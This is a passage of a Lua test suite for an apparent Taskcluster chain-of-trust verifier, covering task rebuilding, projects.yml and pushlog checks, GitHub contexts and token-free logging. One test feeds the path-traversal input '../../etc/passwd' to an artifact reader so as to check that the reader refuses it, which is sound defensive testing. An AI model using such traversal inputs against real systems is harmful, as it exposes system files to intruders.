      local basic = "Basic " .. require("sw.sign").b64encode(TOKEN .. ":")
      local raw = "https://raw.githubusercontent.com/mozilla-mobile/mozilla-vpn-client/" .. VPN_REV
        .. "/.taskcluster.yml"
      assert.are.same({ url = raw, authorization = basic },
        attempt("ssh://github.com/mozilla-mobile/mozilla-vpn-client", TOKEN))
      assert.are.same({ url = raw, authorization = basic },
        attempt("git@github.com:mozilla-mobile/mozilla-vpn-client", TOKEN))
      assert.are.same({ url = raw, authorization = false },
        attempt("git@github.com:mozilla-mobile/mozilla-vpn-client", ""))
      assert.are.same({ url = raw, authorization = false },
        attempt("https://github.com/mozilla-mobile/mozilla-vpn-client", TOKEN))
      assert.are.same({ url = raw, authorization = basic },
        attempt("https://github.com/mozilla-mobile/mozilla-vpn-client", TOKEN, json.array({
          json.object({ schemes = { "https" }, netlocs = { "github.com" }, path_regexes = { "^(?P<path>/x)" },
            require_secret = true }) })))
      assert.are.same({
        url = "https://hg.mozilla.org/ci/taskgraph-try/raw-file/" .. VPN_REV .. "/.taskcluster.yml",
        authorization = false,
      }, attempt("https://hg.mozilla.org/ci/taskgraph-try", TOKEN))
      -- VERIFY.md #79: a name that also appears in the owner
      assert.are.same({
        url = "https://raw.githubusercontent.com/mozilla-firefox/firefox/" .. VPN_REV .. "/.taskcluster.yml",
        authorization = false,
      }, attempt("https://github.com/mozilla-firefox/firefox", TOKEN))
    end)

    it("refuses a malformed GitHub repository URL", function()
      local args = vpn_case()
      args.task.payload.env.MOZILLAVPN_HEAD_REPOSITORY = "https://github.com/mozilla-mobile"
      assert_fails(args, "input", "decision " .. VPN_ID .. ": decision task " .. VPN_ID
        .. ": MOZILLAVPN_HEAD_REPOSITORY https://github.com/mozilla-mobile is not a GitHub repository URL "
        .. "(https://github.com/OWNER/NAME)")
    end)

    it("fails on a json-e error, naming the template", function()
      local args, texts = hg_push_case()
      texts[MAPLE_TC] = "version: 1\ntasks:\n  - {$eval: 'nosuchvariable'}\n"
      assert_fails(args, "jsone", "decision " .. HG_PUSH_ID
        .. ": JSON-e error while rebuilding the task definition from " .. MAPLE_TC
        .. ": InterpreterError at template.tasks[0]: unknown context value nosuchvariable")
    end)

    it("fails when the rendered document has no tasks list or a task has no queue", function()
      local args, texts = hg_push_case()
      texts[MAPLE_TC] = "version: 1\n"
      assert_fails(args, "jsone", "decision " .. HG_PUSH_ID .. ": the rendered " .. MAPLE_TC
        .. " has no tasks list")
      texts[MAPLE_TC] = "tasks:\n  - {taskGroupId: x}\n"
      local ok, msg, code = verify(args)
      assert.is_nil(ok)
      assert.are.equal("mismatch", code)
      assert.are.equal("decision " .. HG_PUSH_ID .. ": the runtime task doesn't match any rebuilt definition!\n"
        .. "  task: the rebuilt task definition has neither taskQueueId nor provisionerId/workerType", msg)
    end)
  end)

  describe("hg: projects.yml and the pushlog", function()
    it("needs the source repository in projects.yml, with a level", function()
      local args, texts = hg_push_case()
      texts[PROJECTS] = read(V2 .. "projects.yml"):gsub("repo: https://hg.mozilla.org/projects/maple\n",
        "repo: https://hg.mozilla.org/projects/maple-old\n", 1)
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": metadata.source https://hg.mozilla.org/projects/maple/raw-file/" .. MAPLE_REV
        .. "/.taskcluster.yml matches no repo in projects.yml (" .. PROJECTS .. ")")
      texts[PROJECTS] = "maple:\n  repo: https://hg.mozilla.org/projects/maple\n  repo_type: hg\n"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": projects.yml: project maple has no access level")
      texts[PROJECTS] = "maple:\n  repo: https://hg.mozilla.org/projects/maple\n  repo_type: svn\n"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID
        .. ": projects.yml: project maple has repo_type \"svn\", not hg or git")
      texts[PROJECTS] = nil
      assert_fails(args, "fetch", "decision " .. HG_PUSH_ID .. ": can't fetch projects.yml from " .. PROJECTS
        .. ": HTTP 404")
    end)

    it("refuses a source that matches several projects (Python takes the first)", function()
      local args, texts = hg_push_case()
      texts[PROJECTS] = read(V2 .. "projects.yml")
        .. "\nprojects:\n  repo: https://hg.mozilla.org/projects\n  repo_type: hg\n  access: scm_level_1\n"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": metadata.source https://hg.mozilla.org/projects/maple/raw-file/" .. MAPLE_REV
        .. "/.taskcluster.yml matches several projects in projects.yml: maple, projects")
    end)

    it("needs HEAD_REPOSITORY to match metadata.source", function()
      local args = hg_push_case()
      args.task.metadata.source = "https://hg.mozilla.org/mozilla-central/raw-file/" .. MAPLE_REV
        .. "/.taskcluster.yml"
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
        .. ": GECKO_HEAD_REPOSITORY https://hg.mozilla.org/projects/maple doesn't match metadata.source "
        .. args.task.metadata.source)
    end)

    it("uses the configured pushlog_url and needs exactly one push", function()
      local args, texts = hg_push_case()
      args.config.pushlog_url = "{repo}/json-pushes/{{x}}?node={revision}"
      local url = "https://hg.mozilla.org/projects/maple/json-pushes/{x}?node=" .. MAPLE_REV
      texts[url] = texts[MAPLE_PUSHLOG]
      assert.is_true(verify(args))
      args.config.pushlog_url = "{repo}/json-pushes?rev={rev}"
      assert_fails(args, "config", "decision " .. HG_PUSH_ID
        .. ": pushlog_url {repo}/json-pushes?rev={rev}: only {repo} and {revision} can be used")
      args, texts = hg_push_case()
      local two = json.decode(texts[MAPLE_PUSHLOG])
      two.pushes["344"] = two.pushes["343"]
      texts[MAPLE_PUSHLOG] = json.encode(two)
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": the pushlog from " .. MAPLE_PUSHLOG
        .. " has 2 pushes for " .. MAPLE_REV .. ", expected exactly one")
      texts[MAPLE_PUSHLOG] = '{"pushes": {}}'
      assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": the pushlog from " .. MAPLE_PUSHLOG
        .. " has 0 pushes for " .. MAPLE_REV .. ", expected exactly one")
      texts[MAPLE_PUSHLOG] = nil
      assert_fails(args, "fetch", "decision " .. HG_PUSH_ID .. ": can't fetch the pushlog from " .. MAPLE_PUSHLOG
        .. ": HTTP 404")
    end)

    -- Python's test_get_additional_hg_push_jsone_context cases
    local comments = {
      { "foo bar baz", " ", true },
      { "try: a b c", "try: a b c", true },
      { "blah blah blah blah try: a b c", "try: a b c", true },
      { "blah blah blah blah\nlbah blha try: [a] b c\nblah blah", "try: [a] b c", true },
      { "asdfsadfsad", "", false },
      { "try: a b c", "try: a b", false },
      { "foo bar baz", "foo bar baz", false },
    }
    for _, c in ipairs(comments) do
      local push_comment, task_comment, accepted = c[1], c[2], c[3]
      it(string.format("push comment %q, decision comment %q: %s", push_comment, task_comment,
        accepted and "accepted" or "refused"), function()
        local args, texts = hg_push_case()
        local log_doc = json.decode(texts[MAPLE_PUSHLOG])
        log_doc.pushes["343"].changesets[1].desc = push_comment
        texts[MAPLE_PUSHLOG] = json.encode(log_doc)
        args.task.payload.env.GECKO_COMMIT_MSG = task_comment
        if accepted then
          assert.is_true(verify(args))
        else
          assert_fails(args, "input", "decision " .. HG_PUSH_ID .. ": decision task " .. HG_PUSH_ID
            .. ": payload.env.GECKO_COMMIT_MSG " .. q(task_comment) .. " doesn't match the push comment "
            .. q(push_comment))
        end
      end)
    end

    it("puts the push and repository into the hg-push and cron contexts", function()
      local ctx = assert(v2.populate_context((hg_push_case())))
      assert.are.equal(HG_PUSH_ID, ctx.as_slugid("decision"))
      ctx.as_slugid = nil
      assert.are.same({
        now = "2018-01-09T19:07:36.291Z",
        tasks_for = "hg-push",
        ownTaskId = HG_PUSH_ID,
        taskId = null,
        repository = { url = "https://hg.mozilla.org/projects/maple", level = "3", project = "maple", type = "hg" },
        push = {
          base_revision = "7ce449ebc213e11232cf6b2b417256893194f21f",
          revision = MAPLE_REV,
          comment = " ",
          owner = "asasaki@mozilla.com",
          pushlog_id = "343",
          pushdate = 1515524845,
        },
      }, ctx)
      ctx = assert(v2.populate_context((cron_case())))
      assert.are.same({ job_name = "nightly-android", job_symbol = "Na",
        quoted_args = "--target-tasks-method=nightly_fennec", task_id = "JLDb7ljhS4e4-QArv6FDWw" }, ctx.cron)
      assert.are.same({ base_revision = "7ce449ebc213e11232cf6b2b417256893194f21f", revision = MAPLE_REV,
        comment = "", owner = "cron", pushlog_id = "343", pushdate = 1515524845 }, ctx.push)
    end)

    it("fails on a cron task whose extra.cron is not JSON", function()
      local args = cron_case()
      args.task.extra.cron = "{job_name"
      local ok, msg, code = verify(args)
      assert.is_nil(ok)
      assert.are.equal("parse", code)
      local start = "decision " .. CRON_ID .. ": task " .. CRON_ID .. ": extra.cron is not valid JSON: json: "
      assert.are.equal(start, msg:sub(1, #start))
    end)
  end)

  describe("actions", function()
    it("needs an action for ACTION_CALLBACK in the decision's actions.json", function()
      local args = relpro_case()
      args.task.payload.env.ACTION_CALLBACK = "non-existent"
      assert_fails(args, "input", "action " .. TRY_ID .. ": no action with callback non-existent in "
        .. "public/actions.json of decision task " .. TRY_ID)
      args.task.payload.env.ACTION_CALLBACK = nil
      assert_fails(args, "input", "action " .. TRY_ID .. ": payload.env.ACTION_CALLBACK is missing")
    end)

    it("takes the first matching action, which must be a hook", function()
      local args, _, artifacts = relpro_case()
      local doc = json.decode(artifacts[TRY_ID .. " public/actions.json"])
      local first = compare.copy(doc.actions[#doc.actions])
      first.kind = "task"
      table.insert(doc.actions, 1, first)
      artifacts[TRY_ID .. " public/actions.json"] = json.encode(doc)
      assert_fails(args, "input", "action " .. TRY_ID .. ": unknown action kind \"task\" for action "
        .. "\"release-promotion\" (callback release-promotion): only hook actions can be rebuilt")
      table.remove(doc.actions, 1)
      artifacts[TRY_ID .. " public/actions.json"] = json.encode(doc)
      assert.is_true(verify(args))
    end)

    it("needs extra.action with a context that has an input", function()
      local args = relpro_case()
      args.task.extra.action.context.input = nil
      assert_fails(args, "input", "action " .. TRY_ID .. ": extra.action.context has no input")
      args.task.extra.action = nil
      assert_fails(args, "input", "action " .. TRY_ID .. ": extra.action is missing")
    end)

    it("fails when actions.json or parameters.yml cannot be read", function()
      local args, _, artifacts = relpro_case()
      artifacts[TRY_ID .. " public/parameters.yml"] = nil
      assert_fails(args, "fetch", "action " .. TRY_ID .. ": can't get public/parameters.yml of task " .. TRY_ID
        .. ": HTTP 404")
      artifacts[TRY_ID .. " public/actions.json"] = nil
      assert_fails(args, "fetch", "action " .. TRY_ID .. ": can't get public/actions.json of task " .. TRY_ID
        .. ": HTTP 404")
    end)

    it("reads the artifacts the engine verified under work_dir/cot/TASKID/", function()
      local work = support.tmpdir()
      assert(os.execute("mkdir -p '" .. work .. "/cot/" .. TRY_ID .. "/public'"))
      for _, name in ipairs({ "actions.json", "parameters.yml" }) do
        local f = assert(io.open(work .. "/cot/" .. TRY_ID .. "/public/" .. name, "w"))
        f:write(read(V4 .. name))
        f:close()
      end
      local args = relpro_case()
      args.inputs.fetch_artifact = v2.file_artifacts(work)
      assert.is_true(verify(args))
      local ok, msg = args.inputs.fetch_artifact(TRY_ID, "../../etc/passwd")
      assert.is_nil(ok)
      assert.are.equal("fs.safe_join: cot/" .. TRY_ID .. "/../../etc/passwd: \"..\" component refused", msg)
      os.remove(work .. "/cot/" .. TRY_ID .. "/public/parameters.yml")
      assert_fails(args, "fetch", "action " .. TRY_ID .. ": can't get public/parameters.yml of task " .. TRY_ID
        .. ": fs.read_file: " .. work .. "/cot/" .. TRY_ID .. "/public/parameters.yml: No such file or directory")
      assert(os.execute("rm -rf '" .. work .. "'"))
    end)

    it("takes the parameters from the decision's parameters.yml", function()
      local args, _, artifacts = relpro_case()
      artifacts[TRY_ID .. " public/parameters.yml"] = read(V4 .. "parameters.yml"):gsub("level: '1'", "level: '3'")
      local ok, _, code, diffs = verify(args)
      assert.is_nil(ok)
      assert.are.equal("mismatch", code)
      local paths = {}
      for _, d in ipairs(diffs) do
        paths[#paths + 1] = d.path
      end
      assert.are.same({ "task.extra.action.context.parameters.level", "task.payload.env.ACTION_PARAMETERS" }, paths)
    end)

    it("accepts ACTION_TASK_GROUP_ID = the action's or the decision's taskId, nothing else", function()
      local args = retrigger_case()
      args.task.payload.env.ACTION_TASK_GROUP_ID = RETRIGGER_ID
      assert.is_true(verify(args))
      args.task.payload.env.ACTION_TASK_GROUP_ID = "other"
      assert_fails(args, "mismatch", "action " .. RETRIGGER_ID .. ": payload.env.ACTION_TASK_GROUP_ID other is "
        .. "neither the action " .. RETRIGGER_ID .. " nor the decision " .. TRY_ID)
      args.task.payload.env.ACTION_TASK_GROUP_ID = nil
      assert_fails(args, "mismatch", "action " .. RETRIGGER_ID .. ": payload.env.ACTION_TASK_GROUP_ID is missing")
    end)

    it("refuses a rebuilt ACTION_TASK_GROUP_ID that is neither task", function()
      local args, _, artifacts = retrigger_case()
      artifacts[TRY_ID .. " public/actions.json"] = artifacts[TRY_ID .. " public/actions.json"]
        :gsub('"taskGroupId": "LpCJV9wUQHSAm5SHyW4Olw"', '"taskGroupId": "other"')
      assert_fails(args, "mismatch", "action " .. RETRIGGER_ID .. ": rebuilt ACTION_TASK_GROUP_ID other is "
        .. "neither the action " .. RETRIGGER_ID .. " nor the decision " .. TRY_ID)
    end)

    it("derives the action permission from the action definition", function()
      local perm = require("sw.cot.v2.context").action_perm
      local function p(t)
        return perm(json.decode(t), "cb")
      end
      assert.are.equal("generic", p('{"actionPerm": "generic"}'))
      assert.are.equal("foobar", p('{"actionPerm": "foobar"}'))
      assert.are.equal("viaextra", p('{"actionPerm": "foobar", "extra": {"actionPerm": "viaextra"}}'))
      assert.are.equal("generic", p('{"hookId": "blah/generic/"}'))
      assert.are.equal("generic", p("{}"))
      assert.are.equal("cb", p('{"hookId": "blah/foobar/"}'))
    end)

    it("builds the GitHub action context from extra.action.context", function()
      local task = load(V4 .. "action_github.json")
      local decision = vpn_case().task
      decision.payload.env = json.object({ XPI_HEAD_REPOSITORY = "https://github.com/escapewindow/xpi-manifest" })
      local ctx = assert(v2.populate_context({
        task_id = "action_task_id", task = task, decision_task = decision,
        config = product_config("xpi"), inputs = fake({}),
      }))
      ctx.as_slugid = nil
      assert.are.same({
        now = "2019-10-21T23:36:07.490Z",
        ownTaskId = "action_task_id",
        taskId = null,
        tasks_for = "action",
        taskGroupId = "decision_task_id",
        input = { build_number = 1, do_not_optimize = {}, previous_graph_ids = {}, rebuild_kinds = {},
          release_promotion_flavor = "build", version = "", xpi_name = "multipreffer" },
      }, ctx)
    end)
  end)

  describe("GitHub contexts", function()
    local REPO = "https://github.com/mozilla-mobile/reference-browser"
    local API = "https://api.github.com/repos/mozilla-mobile/reference-browser"

    local function decision(tasks_for, env, extra)
      local t = json.object({
        taskGroupId = "decision_task_id",
        provisionerId = "provisioner_id",
        workerType = "workerType",
        created = "2018-01-01T12:00:00.000Z",
        metadata = json.object({ source = REPO .. "/raw/somerevision/.taskcluster.yml", owner = "foo@example.tld" }),
        payload = json.object({ env = json.object(env) }),
        extra = json.object({ tasks_for = tasks_for }),
      })
      for k, v in pairs(extra or {}) do
        t.extra[k] = v
      end
      return {
        task_id = "decision_task_id", task = t,
        config = product_config("mobile", { github_oauth_token = TOKEN }),
      }
    end

    it("github-push: the commit's committer, or the author for web-flow", function()
      local args = decision("github-push", {
        MOBILE_BASE_REV = "somebaserevision",
        MOBILE_HEAD_BRANCH = "refs/heads/some-branch",
        MOBILE_HEAD_REPOSITORY = REPO,
        MOBILE_HEAD_REV = "somerevision",
        MOBILE_PUSH_DATE_TIME = "1549022400",
      })
      local texts = { [API .. "/commits/somerevision"] = '{"committer": {"login": "some-user"}}' }
      args.inputs = fake(texts)
      local ctx = assert(v2.populate_context(args))
      assert.are.same({ url = API .. "/commits/somerevision", authorization = "token " .. TOKEN },
        args.inputs.calls[1])
      ctx.as_slugid = nil
      assert.are.same({
        event = {
          before = "somebaserevision",
          after = "somerevision",
          pusher = { email = "foo@example.tld" },
          base_ref = null,
          ref = "refs/heads/some-branch",
          repository = {
            full_name = "mozilla-mobile/reference-browser",
            html_url = REPO,
            name = "reference-browser",
            pushed_at = "1549022400",
            ssh_url = "git@github.com:mozilla-mobile/reference-browser.git",
          },
          sender = { login = "some-user" },
        },
        now = "2018-01-01T12:00:00.000Z",
        ownTaskId = "decision_task_id",
        taskId = null,
        tasks_for = "github-push",
      }, ctx)
      texts[API .. "/commits/somerevision"] = '{"committer": {"login": "web-flow"}, "author": {"login": "a"}}'
      assert.are.equal("a", assert(v2.populate_context(args)).event.sender.login)
      texts[API .. "/commits/somerevision"] = '{"committer": null, "author": null,'
        .. ' "commit": {"author": {"login": "c"}}}'
      assert.are.equal("c", assert(v2.populate_context(args)).event.sender.login)
      texts[API .. "/commits/somerevision"] = '{"committer": null, "author": null}'
      assert.are.equal("@@@unknown@@@", assert(v2.populate_context(args)).event.sender.login)
      texts[API .. "/commits/somerevision"] = nil
      local ok, msg, code = v2.populate_context(args)
      assert.is_nil(ok)
      assert.are.equal("fetch", code)
      assert.are.equal("task decision_task_id: can't fetch the GitHub commit somerevision from " .. API
        .. "/commits/somerevision: HTTP 404", msg)
    end)

    it("github-release: the release by tag", function()
      local args = decision("github-release", {
        MOBILE_HEAD_BRANCH = "releases/v9000.0",
        MOBILE_HEAD_REPOSITORY = REPO,
        MOBILE_HEAD_REV = "v9000.0.1",
      })
      args.inputs = fake({ [API .. "/releases/tags/v9000.0.1"] = '{"target_commitish": "releases/v9000.0",'
        .. ' "published_at": "2019-02-01T12:00:00Z", "author": {"login": "some-user"}}' })
      local ctx = assert(v2.populate_context(args))
      assert.are.same({
        action = "published",
        repository = { clone_url = REPO .. ".git", full_name = "mozilla-mobile/reference-browser",
          html_url = REPO, name = "reference-browser" },
        release = { tag_name = "v9000.0.1", target_commitish = "releases/v9000.0",
          published_at = "2019-02-01T12:00:00Z" },
        sender = { login = "some-user" },
      }, ctx.event)
    end)

    it("cron: the decision's cron, the branch and the git project's level", function()
      local args = decision("cron", {
        MOBILE_HEAD_BRANCH = "master",
        MOBILE_HEAD_REPOSITORY = REPO,
        MOBILE_HEAD_REV = "somerevision",
        MOBILE_PUSH_DATE_TIME = "2019-02-01T12:00:00.000Z",
      }, { cron = '{"task_id":"cron-task-id"}' })
      local texts = { [PROJECTS] = "reference-browser:\n  repo: " .. REPO .. "\n  repo_type: git\n"
        .. "  branches:\n    - name: main\n      level: 3\n" }
      args.inputs = fake(texts)
      local ctx = assert(v2.populate_context(args))
      ctx.as_slugid = nil
      assert.are.same({
        cron = { task_id = "cron-task-id" },
        event = {
          repository = { clone_url = REPO, full_name = "mozilla-mobile/reference-browser", html_url = REPO,
            name = "reference-browser" },
          release = { tag_name = "somerevision", target_commitish = "master",
            published_at = "2019-02-01T12:00:00.000Z" },
          sender = { login = "TaskclusterHook" },
        },
        repository = { url = REPO, project = "reference-browser", level = "3", type = "git" },
        push = { revision = "somerevision", branch = "master" },
        now = "2018-01-01T12:00:00.000Z",
        ownTaskId = "decision_task_id",
        taskId = null,
        tasks_for = "cron",
      }, ctx)
      texts[PROJECTS] = "reference-browser:\n  repo: " .. REPO .. "\n  repo_type: git\n  default_branch: master\n"
        .. "  branches:\n    - name: main\n      level: 3\n"
      local ok, msg = v2.populate_context(args)
      assert.is_nil(ok)
      assert.are.equal("task decision_task_id: projects.yml: project reference-browser has no level for its "
        .. "default branch master", msg)
    end)

    local pr_cases = {
      { "fork with a different base repository", {}, { fork = true }, true, "github-pull-request" },
      { "no fork", {}, { fork = false }, false, "github-pull-request" },
      { "fork with the same base repository",
        { MOBILE_BASE_REPOSITORY = "https://github.com/JohanLorenzo/reference-browser" }, { fork = true }, false,
        "github-pull-request" },
      { "untrusted, fork with a different base repository", {}, { fork = true }, true,
        "github-pull-request-untrusted" },
    }
    for _, c in ipairs(pr_cases) do
      local what, extra_env, repo_def, use_parent, tasks_for = c[1], c[2], c[3], c[4], c[5]
      it(tasks_for .. ": " .. what, function()
        local env = {
          MOBILE_BASE_REF = "main",
          MOBILE_BASE_REPOSITORY = "https://github.com/mozilla-mobile/firefox-android",
          MOBILE_BASE_REV = "baserev",
          MOBILE_HEAD_REF = "some-branch",
          MOBILE_HEAD_REPOSITORY = "https://github.com/JohanLorenzo/reference-browser",
          MOBILE_HEAD_REV = "somerevision",
          MOBILE_PULL_REQUEST_NUMBER = "1234",
          MOBILE_PUSH_DATE_TIME = "2019-02-01T12:00:00Z",
        }
        for k, v in pairs(extra_env) do
          env[k] = v
        end
        local args = decision(tasks_for, env)
        local head_api = "https://api.github.com/repos/JohanLorenzo/reference-browser"
        local pr_api = (use_parent and API or head_api) .. "/pulls/1234"
        local def = { parent = { name = "reference-browser", owner = { login = "mozilla-mobile" } } }
        for k, v in pairs(repo_def) do
          def[k] = v
        end
        local pr = {
          base = { repo = { full_name = "mozilla-mobile/reference-browser", html_url = REPO,
            name = "reference-browser" } },
          head = { ref = "some-branch", repo = { html_url = "https://github.com/JohanLorenzo/reference-browser" },
            sha = "someotherrevision", user = { login = "some-user" } },
          html_url = REPO .. "/pulls/1234",
          number = 1234,
          title = "Some PR title",
        }
        args.inputs = fake({ [head_api] = json.encode(def), [pr_api] = json.encode(pr) })
        local ctx = assert(v2.populate_context(args))
        assert.are.same({ head_api, pr_api }, fetched(args.inputs))
        ctx.as_slugid = nil
        pr.base.sha = "baserev"
        pr.head.sha = "somerevision"
        pr.head.updated_at = "2019-02-01T12:00:00Z"
        assert.are.same({
          event = { action = "synchronize", repository = pr.base.repo, pull_request = pr,
            sender = { login = "some-user" } },
          now = "2018-01-01T12:00:00.000Z",
          ownTaskId = "decision_task_id",
          taskId = null,
          tasks_for = tasks_for,
        }, ctx)
      end)
    end

    it("github-pull-request: needs an integer pull request number", function()
      local args = decision("github-pull-request", {
        MOBILE_HEAD_REPOSITORY = REPO, MOBILE_HEAD_REV = "somerevision", MOBILE_PULL_REQUEST_NUMBER = "12a" })
      args.inputs = fake({})
      local ok, msg = v2.populate_context(args)
      assert.is_nil(ok)
      assert.are.equal("task decision_task_id: decision task decision_task_id: payload.env."
        .. "MOBILE_PULL_REQUEST_NUMBER \"12a\" is not an integer", msg)
    end)
  end)

  describe("logs", function()
    it("say Good. and never contain the GitHub token", function()
      assert.is_true(verify((vpn_case())))
      local args, texts = vpn_case()
      texts[VPN_TC] = nil
      assert.is_nil(verify(args))
      local text = read(log_path)
      assert.truthy(text:find("cot v2: decision " .. VPN_ID .. ": Good.", 1, true))
      assert.truthy(text:find("can't fetch .taskcluster.yml from " .. VPN_TC, 1, true))
      assert.falsy(text:find(TOKEN, 1, true))
      assert.falsy(text:find(require("sw.sign").b64encode(TOKEN .. ":"), 1, true))
    end)
  end)

  describe("through sw.http against a loopback server", function()
    local server, base, tmp, routes_path

    local function routes()
      local basic = "Basic " .. require("sw.sign").b64encode(TOKEN .. ":")
      local r = {
        ["/hg/projects/maple/raw-file/" .. MAPLE_REV .. "/.taskcluster.yml"] = { file = V2 .. ".taskcluster.yml" },
        ["/hg/projects/maple/json-pushes?changeset=" .. MAPLE_REV .. "&version=2&full=1"] =
          { file = V2 .. "pushlog.json" },
        ["/projects-v2.yml"] = { file = V2 .. "projects.yml" },
        ["/projects-v4.yml"] = { file = V4 .. "projects.yml" },
        ["/hg/try/raw-file/" .. TRY_REV .. "/.taskcluster.yml"] = { file = V4 .. ".taskcluster.yml" },
        ["/api/queue/v1/task/" .. TRY_ID .. "/artifacts/public%2Factions.json"] = { file = V4 .. "actions.json" },
        ["/api/queue/v1/task/" .. TRY_ID .. "/artifacts/public%2Fparameters.yml"] = { file = V4 .. "parameters.yml" },
        ["/raw/mozilla-mobile/mozilla-vpn-client/" .. VPN_REV .. "/.taskcluster.yml"] =
          { file = V4 .. "private_github_.taskcluster.yml", auth = basic },
        ["/api/repos/mozilla-mobile/mozilla-vpn-client/commits/" .. VPN_REV] =
          { body = VPN_COMMIT_BODY, auth = "token " .. TOKEN },
        ["/flaky"] = { body = "finally", fail_first = 1 },
        ["/gone"] = { status = 404 },
      }
      return r
    end

    setup(function()
      tmp = support.tmpdir()
      routes_path = tmp .. "/routes.json"
      local f = assert(io.open(routes_path, "w"))
      f:write((assert(json.encode(routes()))))
      f:close()
      local proc = assert(io.popen("exec node " .. support.root .. "/tests/unit/sw/cot/fixture_server.js '"
        .. routes_path .. "'"))
      local line = assert(proc:read("l"), "the fixture server did not start")
      local port, pid = line:match("^(%d+) (%d+)$")
      base = "http://127.0.0.1:" .. port
      server = { proc = proc, pid = pid }
    end)

    teardown(function()
      os.execute("kill " .. server.pid)
      server.proc:close()
      os.execute("rm -rf '" .. tmp .. "'")
    end)

    local function requests()
      local http = require("sw.http")
      local res = assert(http.request({ url = base .. "/_requests" }))
      return json.decode(res.body)
    end

    local function http_inputs(projects)
      return v2.http_inputs({
        urls = {
          hg = base .. "/hg",
          github_raw = base .. "/raw",
          github_api = base .. "/api",
          projects = base .. projects,
        },
        root_url = base,
        attempts = 1,
      })
    end

    it("rebuilds the hg-push decision, the cron task and the relpro action", async(function()
      local before = #requests()
      local args = hg_push_case()
      args.inputs = http_inputs("/projects-v2.yml")
      assert.is_true(verify(args))
      args = cron_case()
      args.inputs = http_inputs("/projects-v2.yml")
      assert.is_true(verify(args))
      args = relpro_case()
      args.inputs = http_inputs("/projects-v4.yml")
      assert.is_true(verify(args))
      local seen = requests()
      local targets = {}
      for i = before + 1, #seen do
        targets[#targets + 1] = seen[i].target .. " " .. seen[i].status .. " " .. seen[i].authorization
      end
      local tc = "/hg/projects/maple/raw-file/" .. MAPLE_REV .. "/.taskcluster.yml 200 none"
      local pl = "/hg/projects/maple/json-pushes?changeset=" .. MAPLE_REV .. "&version=2&full=1 200 none"
      assert.are.same({
        tc, "/projects-v2.yml 200 none", pl,
        tc, "/projects-v2.yml 200 none", pl,
        -- artifacts as from the Queue: a 303 to storage, followed
        "/api/queue/v1/task/" .. TRY_ID .. "/artifacts/public%2Factions.json 303 none",
        "/_storage/api/queue/v1/task/" .. TRY_ID .. "/artifacts/public%2Factions.json 200 none",
        "/projects-v4.yml 200 none",
        "/api/queue/v1/task/" .. TRY_ID .. "/artifacts/public%2Fparameters.yml 303 none",
        "/_storage/api/queue/v1/task/" .. TRY_ID .. "/artifacts/public%2Fparameters.yml 200 none",
        "/hg/try/raw-file/" .. TRY_REV .. "/.taskcluster.yml 200 none",
      }, targets)
    end))

    it("rebuilds the private GitHub decision with the token, and fails without it", async(function()
      local args = vpn_case()
      args.inputs = http_inputs("/projects-v4.yml")
      assert.is_true(verify(args))
      local seen = requests()
      assert.are.same({ "ok", "ok" }, { seen[#seen - 1].authorization, seen[#seen].authorization })
      args.config.github_oauth_token = "wrongtoken"
      local ok, msg, code = verify(args)
      assert.is_nil(ok)
      assert.are.equal("fetch", code)
      assert.are.equal("decision " .. VPN_ID .. ": can't fetch .taskcluster.yml from " .. base
        .. "/raw/mozilla-mobile/mozilla-vpn-client/" .. VPN_REV .. "/.taskcluster.yml: HTTP 401", msg)
      seen = requests()
      assert.are.equal("wrong", seen[#seen].authorization)
    end))

    it("retries 5xx answers but not 404", async(function()
      local inputs = v2.http_inputs({ attempts = 2, retry_delay = 0.001 })
      local before = #requests()
      assert.are.equal("finally", inputs.fetch_text(base .. "/flaky"))
      assert.are.same({ nil, "HTTP 404", "HTTP404" }, { inputs.fetch_text(base .. "/gone") })
      local seen = requests()
      local statuses = {}
      for i = before + 1, #seen do
        statuses[#statuses + 1] = seen[i].target .. " " .. seen[i].status
      end
      assert.are.same({ "/flaky 503", "/flaky 200", "/gone 404" }, statuses)
    end))
  end)
end)
